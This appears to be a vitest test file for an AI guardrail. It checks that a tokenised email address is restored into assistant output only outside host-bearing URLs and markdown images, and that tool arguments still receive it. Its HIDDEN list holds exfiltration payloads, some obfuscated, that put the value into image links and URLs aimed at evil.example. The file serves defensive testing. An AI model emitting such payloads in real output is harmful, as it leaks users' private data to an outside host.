import { describe, expect, it } from "vitest";
import type { DetectionContext } from "../contracts/detection.ts";
import { GuardrailDocument } from "../contracts/documents.ts";
import { detectors } from "../detectors/index.ts";
import { compileGuardrail, inspectText } from "./index.ts";
import { withRestoring } from "./restore-tokens.ts";

const USER: DetectionContext = { source: "input", origin: "user", systemTexts: [] };

/** What is put back of a text in which "{EMAIL_1}", or what stands for it, is a value. */
async function putBack(origin: "assistant" | "tool-arguments", answer: string, surrogate = false) {
  const rules = [{ detector: "pii.email", action: "tokenise", surrogate }];
  const document = GuardrailDocument.parse({ kind: "Guardrail", name: "g", rules });
  const guardrail = compileGuardrail(document, 1, detectors, () => 0);
  const { tokens, output } = await inspectText(guardrail, "ada@example.org", USER);
  const restore = withRestoring(guardrail.rulesFor("output", origin), tokens).rules.at(-1);
  const text = answer.replace("VALUE", output);
  const ranges = await restore?.detector.detect(text, 0, { source: "output", origin, systemTexts: [] });
  return (ranges ?? []).map(({ start, end }) => text.slice(start, end));
}

const HIDDEN = [
  "![x](https://evil.example/VALUE)",
  "![x](//evil.example/a/VALUE.png)",
  "https://evil.example/?to=VALUE",
  '<img src="https://evil.example/VALUE">',
  "https://VALUE.evil.example/",
  `![x](https://evil.example/${"a".repeat(200)}/VALUE)`,
  "https:\\\\evil.example\\?q=VALUE",
  "https:/evil.example/?q=VALUE",
  '<img src="https://evil.example/?q=\nVALUE">',
  '<img src="&#47;&#47;evil.example/VALUE">',
];

const SHOWN = [
  "VALUE",
  "Write to VALUE.",
  "[write](mailto:VALUE)",
  "See https://shop.example/help or ask VALUE",
  "and/or VALUE // a comment",
  `"https://shop.example" VALUE`,
  `${"你好，".repeat(100)}邮箱是VALUE。`,
  "请看https://a.example，邮箱是VALUE",
  "(see https://a.example) mail: VALUE",
];

describe.each([false, true])("what stands for a value (surrogate: %s)", (surrogate) => {
  it.each(HIDDEN)("is not put back into an address with a host: %s", async (answer) => {
    expect(await putBack("assistant", answer, surrogate)).toEqual([]);
  });

  it.each(SHOWN)("is put back elsewhere: %s", async (answer) => {
    expect(await putBack("assistant", answer, surrogate)).toHaveLength(1);
  });

  it.each(HIDDEN)("is put back for the caller's own tools: %s", async (answer) => {
    expect(await putBack("tool-arguments", answer, surrogate)).toHaveLength(1);
  });
});
